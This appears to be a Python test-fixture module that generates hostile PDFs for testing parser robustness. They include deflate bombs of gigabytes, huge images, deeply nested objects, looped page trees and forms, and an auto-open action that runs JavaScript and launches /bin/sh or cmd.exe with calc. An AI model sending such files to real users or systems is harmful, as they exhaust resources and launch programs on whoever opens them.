"""PDFs that do harm to whoever opens them carelessly."""

import zlib
from collections.abc import Sequence

WORDS = b"BT /F1 12 Tf 72 700 Td (The bomb says hello) Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def pdf(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first one is the catalogue."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n"
    return body + head + table + end % (len(objects) + 1, trailer, len(body))


def stream(content: bytes, facts: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(content), facts, content)


def one_page(
    content: bytes,
    *beyond: bytes,
    box: bytes = b"0 0 612 792",
    of_page: bytes = b"",
    of_root: bytes = b"",
    resources: bytes = b"",
) -> bytes:
    """A PDF of one page; objects beyond it are numbered from 6."""
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[%b]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>%b>>%b>>"
    )
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%b>>" % of_root,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            page % (box, resources, of_page),
            content,
            FONT,
            *beyond,
        ]
    )


def zeros(size: int) -> bytes:
    """So many zeros, deflated."""
    packer = zlib.compressobj(9)
    chunk = bytes(1024**2)
    packed = b"".join(packer.compress(chunk) for _ in range(size // len(chunk)))
    return packed + packer.flush()


def stream_bomb() -> bytes:
    """Two gigabytes of zeros, deflated."""
    return one_page(stream(zeros(2 * 1024**3), b"/Filter/FlateDecode"))


def twice_packed() -> bytes:
    """Four gigabytes in some kilobytes: deflated, and deflated again."""
    packed = zlib.compress(zeros(4 * 1024**3), 9)
    return one_page(stream(packed, b"/Filter[/FlateDecode/FlateDecode]"))


def operators() -> bytes:
    """Forty million drawing operators."""
    return one_page(
        stream(zlib.compress(b"q 1 0 0 1 0 0 cm Q\n" * 10_000_000, 9), b"/Filter/FlateDecode")
    )


def huge_page() -> bytes:
    """A page of 200 by 200 inches at 72 units an inch."""
    return one_page(stream(WORDS), box=b"0 0 14400 14400")


def endless_page() -> bytes:
    """A page of 200 by 200 inches counted in units of a thousand inches each, without text."""
    return one_page(stream(b"0 0 m 9 9 l S"), box=b"0 0 14400 14400", of_page=b"/UserUnit 72000")


def image_bomb() -> bytes:
    """A picture of 100,000 by 100,000 dots that fills the page."""
    facts = (
        b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 1"
        b"/ColorSpace/DeviceGray/Filter/FlateDecode"
    )
    return one_page(
        stream(b"612 0 0 792 0 0 cm /I Do"),
        stream(zeros(100_000 * 100_000 // 8), facts),
        resources=b"/XObject<</I 6 0 R>>",
    )


def nested_arrays() -> bytes:
    """An array in an array, 200,000 deep."""
    return one_page(stream(WORDS), of_page=b"/X " + b"[" * 200_000 + b"]" * 200_000)


def nested_names() -> bytes:
    """A dictionary in a dictionary, 100,000 deep."""
    return one_page(stream(WORDS), of_root=b"/X " + b"<</X " * 100_000 + b"0" + b">>" * 100_000)


def looped_pages() -> bytes:
    """A page tree whose branch is its own root."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"])


def deep_pages() -> bytes:
    """A page tree of 20,000 levels with one page."""
    levels = [
        b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (number + 1, number - 1)
        for number in range(2, 20_002)
    ]
    page = b"<</Type/Page/Parent 20001 0 R/MediaBox[0 0 612 792]>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", *levels, page])


def looped_forms() -> bytes:
    """A form that draws itself, twice each time."""
    form = stream(
        b"/A Do /A Do",
        b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A 6 0 R>>>>",
    )
    return one_page(stream(b"/A Do"), form, resources=b"/XObject<</A 6 0 R>>")


def doubling_forms() -> bytes:
    """Thirty forms, each of which draws the next one ten times."""
    facts = (
        b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]"
        b"/Resources<</Font<</F1 5 0 R>>/XObject<</A %d 0 R>>>>"
    )
    forms = [stream(b"/A Do " * 10, facts % (number + 1)) for number in range(6, 36)]
    last = stream(WORDS, facts % 36)
    return one_page(stream(b"/A Do"), *forms, last, resources=b"/XObject<</A 6 0 R>>")


def looped_table() -> bytes:
    """A table of objects that names itself as the earlier one."""
    made = one_page(stream(WORDS))
    place = made.rindex(b"xref\n0 ")
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % place)


def many_pages() -> bytes:
    """10,000 pages with a line each."""
    kids = b" ".join(b"%d 0 R" % (4 + 2 * number) for number in range(10_000))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%b]/Count 10000>>" % kids,
        FONT,
    ]
    for number in range(10_000):
        page = (
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents %d 0 R"
            b"/Resources<</Font<</F1 3 0 R>>>>>>"
        )
        text = (
            b"BT /F1 12 Tf 72 700 Td (Page %d of the harbour log was kept by hand) Tj ET" % number
        )
        objects += [page % (5 + 2 * number), stream(text)]
    return pdf(objects)


def claimed_pages() -> bytes:
    """A page tree that claims two thousand million pages and has none."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 2000000000>>"])


def actions() -> bytes:
    """JavaScript, a program to launch, addresses to call and a form to send, all when opened."""
    script = b"<</S/JavaScript/JS(app.launchURL('http://127.0.0.1:9/js');this.exportDataObject({cName:'a'}))>>"
    launch = b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>/Next[%b %b]>>" % (
        b"<</S/URI/URI(http://127.0.0.1:9/uri)>>",
        b"<</S/SubmitForm/F(http://127.0.0.1:9/form)>>",
    )
    return one_page(
        stream(WORDS),
        of_root=b"/OpenAction %b/AA<</WC %b>>/Names<</JavaScript<</Names[(a) %b]>>>>"
        % (launch, script, script),
        of_page=b"/AA<</O %b>>/Annots[<</Subtype/Link/Rect[0 0 99 99]/A %b>>]" % (script, launch),
    )


def scattered() -> bytes:
    """20,000 words, each turned and at a place of its own."""
    words = b"".join(
        b"BT /F1 3 Tf %.3f %.3f %.3f %.3f %d %d Tm (w%d) Tj ET\n"
        % (0.8, 0.6, -0.6, 0.8, number * 37 % 600, number * 91 % 780, number)
        for number in range(20_000)
    )
    return one_page(stream(words))


def many_notes() -> bytes:
    """100,000 sticky notes on a page."""
    note = b"<</Subtype/Text/Rect[0 0 9 9]/Contents(Said so)>>"
    return one_page(stream(WORDS), of_page=b"/Annots[" + note * 100_000 + b"]")


def marks_upon_marks() -> bytes:
    """20,000 marks on one line, each with 2,000 boxes and a comment, and one that draws itself."""
    facts = b"/Type/XObject/Subtype/Form/BBox[0 0 300 20]/Resources<</XObject<</A 7 0 R>>>>"
    boxes = stream(b"1 g 0 0 300 20 re f " * 2_000, facts)
    itself = stream(b"/A Do 1 g 0 0 300 20 re f", facts)
    mark = b"<</Subtype/%b/Rect[70 695 370 715]/Contents(Said so %d)/F 4/AP<</N %d 0 R>>>>"
    kinds = (b"Square", b"Highlight", b"FreeText", b"Redact")
    marks = b"".join(
        mark % (kinds[number % 4], number, 6 + (number % 1_000 == 0)) for number in range(20_000)
    )
    return one_page(stream(WORDS), boxes, itself, of_page=b"/Annots[" + marks + b"]")


PDFS = {
    "pdf: 2 GB stream": stream_bomb,
    "pdf: 4 GB stream, packed twice": twice_packed,
    "pdf: 40 million operators": operators,
    "pdf: page of 200 inches": huge_page,
    "pdf: page of 14 million inches": endless_page,
    "pdf: picture 100,000 x 100,000": image_bomb,
    "pdf: arrays 200,000 deep": nested_arrays,
    "pdf: dictionaries 100,000 deep": nested_names,
    "pdf: page tree in a ring": looped_pages,
    "pdf: page tree 20,000 deep": deep_pages,
    "pdf: claims 2,000,000,000 pages": claimed_pages,
    "pdf: form that draws itself": looped_forms,
    "pdf: forms, 10 to the 30th": doubling_forms,
    "pdf: table of objects in a ring": looped_table,
    "pdf: 10,000 pages": many_pages,
    "pdf: JavaScript, launch, URI, form": actions,
    "pdf: 20,000 turned words": scattered,
    "pdf: 100,000 notes": many_notes,
    "pdf: 20,000 marks upon marks": marks_upon_marks,
}
